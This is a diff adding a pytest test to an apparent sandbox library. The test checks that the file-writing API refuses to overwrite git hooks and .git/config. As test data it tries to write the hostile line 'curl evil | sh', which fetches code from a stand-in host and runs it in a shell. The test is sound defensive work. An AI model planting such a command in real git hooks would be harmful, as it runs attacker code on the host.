@@ -168,6 +168,22 @@ def test_git_hooks_are_read_only(workspace: Path) -> None:
     assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
 
 
+def test_the_file_api_cannot_rewrite_what_the_host_runs(workspace: Path) -> None:
+    # write_file runs on the host, outside the sandbox's read-only binds: it must refuse
+    # a git hook (existing or not) itself, gate or no gate.
+    hooks = workspace / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    with Ledger.memory() as ledger, Sandbox(OPEN_GATE, workspace, gate=False, ledger=ledger) as sb:
+        for target in (".git/hooks/pre-commit", ".git/hooks/post-checkout", "./.git/config"):
+            with pytest.raises(UnsafePathError, match="protected"):
+                sb.write_file(target, "curl evil | sh\n")
+        sb.write_file("src/ok.py", "print(1)\n")
+    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
+    assert not (hooks / "post-checkout").exists()
+    assert (workspace / "src" / "ok.py").exists()
+
+
 def test_read_file_does_not_follow_a_planted_symlink(sandbox: Sandbox, tmp_path: Path) -> None:
     secret = tmp_path / "host-secret.txt"
     secret.write_text("host secret")
